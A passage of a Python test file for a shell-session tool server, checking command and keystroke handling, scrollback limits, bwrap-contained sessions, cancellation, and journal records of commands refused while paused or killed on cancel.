        session = ShellSession(BASH, str(tmp_path), dict(os.environ))
        assert session.interrupt() is False, "no shell yet"
        folder = tmp_path.stat()  # no shell to ask the OS about (macOS, which has no /proc, always)
        assert session.folder_now() == (str(tmp_path), (folder.st_dev, folder.st_ino))
        with pytest.raises(SessionBusy):
            await session.send_keys("x")
        async with anyio.create_task_group() as group:
            assert await session.start(group) is False
            assert await session.wait_idle(0.1) is True
            assert await session.send_keys("") == "", "nothing runs to answer"
            unended = await session.send_command("printf 'one\\ntwo'")
            await unended.done.wait()
            said = unended.result(finished=True, restarted=False)
            assert said.output == "one\ntwo" and said.exit_code == 0
            assert session.scrollback(1) == "two"
            reading = await session.send_command("mkdir -p sub && cd sub && printf 'a\\nname? '; read x; echo got $x")
            with pytest.raises(SessionBusy):
                await session.send_command("true")
            assert await eventually(lambda: session.scrollback(1) == "name? "), "a prompt without a newline"
            assert session.scrollback(2) == "a\nname? "
            assert "got me" in await session.send_keys("me\n")
            await reading.done.wait()
            assert session.interrupt() is True, "Ctrl-C to the shell's group; its trap keeps it alive"
            assert await session.wait_idle(1.0) and session.alive
            assert session.current_dir == str(tmp_path / "sub"), "where the OS says the shell is"
            late = await session.send_command("(sleep 0.3; echo late; head -c 5000 /dev/zero | tr '\\0' x; echo) &")
            await late.done.wait()
            cut = await eventually(  # a line longer than the scrollback keeps: it is kept cut
                lambda: session.scrollback(2).startswith("late\nxxxx") and session.scrollback(1).endswith(" [...]")
            )
            assert cut and len(session.scrollback(1)) < 5000, repr(session.scrollback(3)[-300:])
            await session.close()
            group.cancel_scope.cancel()

    anyio.run(main)


@NEEDS_BWRAP
def test_a_session_closed_twice_at_once_ends_its_shell_without_an_error(tmp_path: Path, user_home: Path) -> None:
    """A pause and the server's end closed it together (a full run, 2026-12-04): the second close
    found the process gone under it, and the error ended the server's task group."""

    async def later(session: ShellSession, delay: float) -> None:
        await anyio.sleep(delay)
        await session.close()

    async def main() -> None:
        found = container.linux_container([str(tmp_path / "data")])
        for delay in (0, 0.001, 0.003, 0.01, 0.03):  # the second close comes while the first ends the tree
            session = ShellSession(BASH, str(tmp_path), dict(os.environ), container=found)
            async with anyio.create_task_group() as group:
                await session.start(group)
                async with anyio.create_task_group() as closing:
                    closing.start_soon(session.close)
                    closing.start_soon(later, session, delay)
                assert session.process is None and not session.alive, delay
                group.cancel_scope.cancel()

    anyio.run(main)


@NEEDS_BWRAP
def test_a_contained_session_that_exits_leaving_a_background_job_is_seen_to_end_at_once(
    tmp_path: Path, user_home: Path
) -> None:
    """bwrap keeps the shell's output open while the job lives: its status says the shell ended."""

    async def main() -> None:
        found = container.linux_container([str(tmp_path / "data")])
        session = ShellSession(BASH, str(tmp_path), dict(os.environ), container=found)
        async with anyio.create_task_group() as group:
            await session.start(group)
            began = time.monotonic()
            ended = await session.send_command("sleep 30 & exit 4")
            with anyio.fail_after(10):
                await ended.done.wait()
            assert time.monotonic() - began < 5 and ended.ended_session and not session.alive
            await session.close()
            group.cancel_scope.cancel()

    anyio.run(main)


# -- session_shell.py: the session through the server's tools ---------------------------------------


@pytest.mark.anyio
async def test_the_session_tools_refuse_what_cannot_be_done_and_a_pause_refuses_typed_keys_on_the_record(
    home: Path, paths: AppPaths, user_home: Path
) -> None:
    from tests.in_process_server import serving

    async with serving(home) as client:
        nothing = await call(client, "terminal_read_scrollback", {"lines": 5})
        too_many = await call(client, "terminal_read_scrollback", {"lines": 501})
        empty = await call(client, "terminal_send_keys", {"keys": ""})
        done = await call(client, "terminal_run", {"command": "echo hi"})
        with Journal.open(paths) as journal:
            journal.set_paused(True)
        paused = await call(client, "terminal_send_keys", {"keys": "y\n"})
    assert nothing == ""
    assert "from 1 to 500" in too_many["error"]
    assert "`keys` is empty" in empty["error"]
    assert done["output"] == "hi\n" and done["exitCode"] == 0
    assert "paused" in paused["error"]
    with Journal.open(paths) as journal:
        rows = journal.recent_commands()
    assert next(r for r in rows if r.command == "echo hi").status is Status.FINISHED
    refused = next(r for r in rows if r.command == "y\n")
    assert refused.tool == "terminal_send_keys" and refused.status is Status.REFUSED


@pytest.mark.anyio
async def test_a_session_call_the_client_cancels_ends_its_command_and_the_journal_says_why(
    home: Path, paths: AppPaths, user_home: Path
) -> None:
    from tests.in_process_server import serving

    marker = f"61{os.getpid() % 1000}.5"
    async with serving(home) as client:
        with anyio.move_on_after(2.0):
            await call(client, "terminal_run", {"command": f"sleep {marker}", "timeout": 60_000})
        assert await eventually(lambda: running_with(f"sleep {marker}") == [])
        with Journal.open(paths) as journal:
            assert await eventually(
                lambda: (
                    next(r for r in journal.recent_commands() if r.command == f"sleep {marker}").status is Status.KILLED
                )
            )
            row = next(r for r in journal.recent_commands() if r.command == f"sleep {marker}")
    assert row.reason == CANCEL_REASON


@pytest.mark.anyio
async def test_a_session_command_sent_before_the_server_has_started_is_refused_with_a_retry(paths: AppPaths) -> None:
    from app.core.commands.request import CommandRefused
    from app.core.commands.service import CommandService

    with Journal.open(paths) as journal:
        service = CommandService(journal, paths, server_id=None, bash=lambda: BASH, environment=dict)
        with pytest.raises(CommandRefused) as refused:
            await service.session_run("echo hi", None)
        with pytest.raises(CommandRefused, match="from 1 to 500"):
            service.session_scrollback(True)  # a yes is no number of lines
    assert str(refused.value) == "The server is still starting; try again in a moment."
